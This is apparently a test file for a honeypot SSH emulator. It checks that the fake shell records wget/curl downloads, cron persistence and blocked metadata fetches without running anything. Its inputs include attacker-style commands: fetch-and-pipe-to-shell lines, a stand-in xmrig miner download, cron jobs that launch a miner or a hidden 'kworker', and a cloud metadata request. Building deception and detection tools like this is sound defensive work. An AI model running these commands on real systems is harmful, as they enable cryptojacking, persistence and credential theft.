// The fake shell's wget/curl really fetch (a real HTTP server on this host's LAN address), hash what
// came, record a `download` event, and never run it; crontab and `>>` into cron files are accepted and
// recorded. The last case drives the whole path through the ssh emulator with a real SSH client.
// The fake shell's wget/curl ask the artifact gateway (a worker beside the API; the real one is tested
// end to end in packages/lifecycle/test/artifact-gateway.test.ts) and print what the real tools
// print from its answer, record a `download` event, and never run what came; crontab and `>>` into
// cron files are accepted and recorded. The last case drives the ssh emulator with a real SSH client
// against a gateway socket answering as the real one does.
import { createHash } from 'node:crypto'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { FetchResult } from '@decnet/core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Fields } from '../src/framework/tcp.ts'
import { type Downloader, MAX_DOWNLOADS_PER_SESSION } from '../src/protocols-text/shell/downloads.ts'
import { shellHost } from '../src/protocols-text/shell/persona.ts'
import { createShell, type FakeShell, settle } from '../src/protocols-text/shell/shell.ts'
import { startTestEmulator } from './helpers.ts'
import { alpinePersona, debianPersona } from './shell-personas.ts'
import { connectSsh } from './ssh-login.ts'

const MINER = Buffer.from(`\x7fELF${'xmrig-test-payload '.repeat(500)}`)
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')
const base = 'http://198.51.100.20:8080'
const requests: string[] = []

/** Answers as the gateway does for a server serving /xmrig, redirecting /moved, 404 elsewhere. */
const gatewayAnswer = (url: string): FetchResult => {
  requests.push(url)
  if (url.includes('127.0.0.1') || url.includes('169.254.')) return { ok: false, url, failure: 'blocked' }
  const path = new URL(url).pathname
  const served = {
    ok: true as const,
    address: '198.51.100.20',
    port: 8080,
    contentType: 'application/octet-stream',
  }
  if (path === '/xmrig' || path === '/moved')
    return {
      ...served,
      url: `${base}/xmrig`,
      status: 200,
      size: MINER.length,
      sha256: sha256(MINER),
      truncated: false,
    }
  if (path === '/stall') return { ok: false, url, failure: 'timeout', address: '198.51.100.20', port: 8080 }
  return { ...served, url, status: 404, size: 4, sha256: sha256(Buffer.from('nope')), truncated: false }
}
const gatewayDouble: Downloader = async (url) => gatewayAnswer(url)

function shellWithEvents(user = 'root', persona = debianPersona('0123456789abcdef0123456789abcdef')) {
  const events: { event: string; fields: Fields }[] = []
  const host = shellHost(persona, { bindAddress: '10.20.30.40', nowMs: Date.now() })
  const shell = createShell(host, user, {
    download: gatewayDouble,
    emit: (event, fields) => events.push({ event, fields }),
  })
  return { shell, events }
}

async function run(shell: FakeShell, line: string): Promise<string> {
  let printed = ''
  await settle(shell.run(line), (text) => {
    printed += text
  })
  return printed
}

describe('wget and curl in the fake shell', () => {
  it('wget -O saves the sample: the event carries url, sha256, size and filename; the file is listed, chmod +x and running it execute nothing', async () => {
    const { shell, events } = shellWithEvents()
    const printed = await run(shell, `cd /tmp; wget ${base}/xmrig -O /tmp/xmrig`)
    expect(printed).toMatch(/HTTP request sent, awaiting response\.\.\. 200 OK/)
    expect(printed).toMatch(/‘xmrig’ saved \[\d+\/\d+\]/)
    expect(events).toEqual([
      {
        event: 'download',
        fields: expect.objectContaining({
          url: `${base}/xmrig`,
          sha256: sha256(MINER),
          size: MINER.length,
          filename: 'xmrig',
          path: '/tmp/xmrig',
          truncated: false,
          status: 200,
          tool: 'wget',
        }),
      },
    ])
    expect(await run(shell, 'ls -l /tmp')).toMatch(
      new RegExp(`-rw-r--r-- 1 root root ${MINER.length} .* xmrig`),
    )
    expect(await run(shell, './xmrig')).toBe('-bash: ./xmrig: Permission denied\n')
    expect(await run(shell, 'chmod +x xmrig && ./xmrig -o pool.example:3333')).toBe(
      '-bash: ./xmrig: cannot execute binary file: Exec format error\n',
    )
  })

  it('curl -fsSL URL | sh fetches silently and runs nothing; redirects are followed; 404 is recorded with its status', async () => {
    const { shell, events } = shellWithEvents()
    expect(await run(shell, `curl -fsSL ${base}/moved | sh`)).toBe('')
    expect(events[0]?.fields).toMatchObject({
      url: `${base}/moved`,
      final_url: `${base}/xmrig`,
      sha256: sha256(MINER),
      path: '-',
      tool: 'curl',
    })
    expect(await run(shell, `curl -fsS ${base}/missing -o /tmp/m`)).toBe(
      'curl: (22) The requested URL returned error: 404\n',
    )
    expect(events[1]?.fields).toMatchObject({ status: 404, size: 4 })
    // Without -s, curl into a pipe shows its progress meter on stderr, as the real one does.
    expect(await run(shell, `curl ${base}/xmrig | bash`)).toMatch(/% Total {4}% Received/)
  })

  it('what the gateway could not fetch (a stalled server, a refused address) is recorded with its reason and printed as the tool would', async () => {
    const { shell, events } = shellWithEvents()
    expect(await run(shell, `curl -sS ${base}/stall -o /tmp/s`)).toMatch(
      /^curl: \(28\) Failed to connect to 198\.51\.100\.20 port 8080 after \d+ ms: Timeout was reached\n$/,
    )
    expect(events[0]?.fields).toMatchObject({ url: `${base}/stall`, error: 'timeout' })
    expect(await run(shell, 'wget http://127.0.0.1:4000/xmrig')).toMatch(/failed: Connection refused/)
    await run(shell, 'curl -s http://169.254.169.254/latest/meta-data/')
    expect(events.slice(1).map((e) => e.fields.error)).toEqual(['blocked', 'blocked'])
  })

  it('a user cannot save outside their home and the temp dirs (the fetch is still recorded)', async () => {
    const { shell, events } = shellWithEvents('deploy')
    expect(await run(shell, `cd /etc; wget -q ${base}/xmrig`)).toBe('xmrig: Permission denied\n')
    expect(await run(shell, 'ls /etc')).not.toMatch(/xmrig/)
    expect(events[0]?.fields).toMatchObject({ path: '/etc/xmrig', sha256: sha256(MINER) })
    await run(shell, `cd; wget -q ${base}/xmrig`)
    expect(await run(shell, 'ls')).toMatch(/xmrig/)
  })

  it('one session fetches at most MAX_DOWNLOADS_PER_SESSION times; later URLs are recorded, not fetched', async () => {
    const { shell, events } = shellWithEvents()
    const before = requests.length
    for (let i = 0; i < MAX_DOWNLOADS_PER_SESSION + 2; i++)
      await run(shell, `curl -s ${base}/xmrig?n=${i} -o /tmp/x${i}`)
    expect(requests.length - before).toBe(MAX_DOWNLOADS_PER_SESSION)
    expect(events.slice(-2).map((e) => e.fields.error)).toEqual(['limit', 'limit'])
    expect(events.at(-1)?.fields.url).toBe(`${base}/xmrig?n=${MAX_DOWNLOADS_PER_SESSION + 1}`)
  })

  it('busybox wget prints its own lines', async () => {
    const { shell, events } = shellWithEvents('root', alpinePersona('2'.repeat(32)))
    const printed = await run(shell, `wget ${base}/xmrig -O /tmp/x`)
    expect(printed).toMatch(/^Connecting to [\d.]+ \([\d.]+:\d+\)\nsaving to 'x'\n/)
    expect(events[0]?.fields.sha256).toBe(sha256(MINER))
  })
})

describe('crontab and cron files in the fake shell', () => {
  it('(crontab -l; echo JOB) | crontab - installs the job: crontab -l shows it and a cron_job event records it', async () => {
    const { shell, events } = shellWithEvents()
    expect(await run(shell, 'crontab -l')).toBe('no crontab for root\n')
    const job = '*/5 * * * * /tmp/xmrig -o pool.minexmr.example:4444 >/dev/null 2>&1'
    expect(await run(shell, `(crontab -l 2>/dev/null; echo "${job}") | crontab -`)).toBe('')
    expect(await run(shell, 'crontab -l')).toBe(`${job}\n`)
    expect(events).toEqual([
      { event: 'cron_job', fields: { username: 'root', via: 'crontab', source: 'stdin', jobs: job } },
    ])
    await run(shell, 'crontab -r')
    expect(await run(shell, 'crontab -l')).toBe('no crontab for root\n')
  })

  it('echo JOB >> /etc/crontab appends for root (cat shows it, event recorded); a user is denied', async () => {
    const { shell, events } = shellWithEvents()
    const job = '* * * * * root /tmp/.x/kworker'
    expect(await run(shell, `echo "${job}" >> /etc/crontab`)).toBe('')
    const crontab = await run(shell, 'cat /etc/crontab')
    expect(crontab).toMatch(/^# \/etc\/crontab: system-wide crontab/)
    expect(crontab.endsWith(`${job}\n`)).toBe(true)
    expect(events[0]).toEqual({
      event: 'cron_job',
      fields: { username: 'root', via: 'file', source: '/etc/crontab', jobs: job },
    })
    const user = shellWithEvents('deploy')
    expect(await run(user.shell, `echo "${job}" >> /etc/crontab`)).toBe(
      '-bash: /etc/crontab: Permission denied\n',
    )
    expect(user.events).toEqual([])
    // Their own files are theirs to write.
    expect(await run(user.shell, 'echo hello > /tmp/note; cat /tmp/note')).toBe('hello\n')
  })
})

describe('the ssh emulator with downloads', () => {
  let ssh: Awaited<ReturnType<typeof startTestEmulator>>
  let gateway: Server
  const dir = mkdtempSync(join(tmpdir(), 'decnet-gateway-'))
  const asked: { decky: string; token: string; body: string }[] = []
  beforeAll(async () => {
    gateway = createServer((request, response) => {
      let body = ''
      request.on('data', (chunk) => (body += chunk))
      request.on('end', () => {
        asked.push({
          decky: String(request.headers['x-decnet-decky']),
          token: String(request.headers['x-decnet-token']),
          body,
        })
        response.end(JSON.stringify(gatewayAnswer((JSON.parse(body) as { url: string }).url)))
      })
    })
    await new Promise<void>((resolve) => gateway.listen(join(dir, 'gateway.sock'), resolve))
    Object.assign(process.env, {
      DECNET_ARTIFACT_GATEWAY: join(dir, 'gateway.sock'),
      DECNET_ARTIFACT_TOKEN: 'token-of-decky-ssh',
      DECNET_DECKY: 'decky-ssh',
    })
    ssh = await startTestEmulator('ssh', { config: { password: 'rootpw' }, seed: 'decky-ssh-dl' })
  })
  afterAll(async () => {
    delete process.env.DECNET_ARTIFACT_GATEWAY
    delete process.env.DECNET_ARTIFACT_TOKEN
    delete process.env.DECNET_DECKY
    await ssh.running.close()
    gateway.close()
    rmSync(dir, { recursive: true, force: true })
  })

  it('an exec channel (`ssh host "wget -qO- URL | sh"`) downloads, records the sample and ends cleanly', async () => {
    const client = await connectSsh(ssh, 'root', 'rootpw')
    try {
      const code = await new Promise<number>((resolve, reject) =>
        client.exec(`wget -qO- ${base}/xmrig | sh`, (error, stream) => {
          if (error) return reject(error)
          let exit = -1
          stream.on('exit', (c: number) => (exit = c)).on('data', () => undefined)
          stream.on('close', () => resolve(exit))
        }),
      )
      expect(code).toBe(0)
      const download = await ssh.waitFor((e) => e.event === 'download')
      expect(download.fields).toMatchObject({ url: `${base}/xmrig`, sha256: sha256(MINER), username: 'root' })
      // The decoy asked the gateway (it fetched nothing itself), naming its decky and token.
      expect(asked).toEqual([
        {
          decky: 'decky-ssh',
          token: 'token-of-decky-ssh',
          body: JSON.stringify({ url: `${base}/xmrig`, tool: 'wget' }),
        },
      ])
    } finally {
      client.end()
    }
  })
})
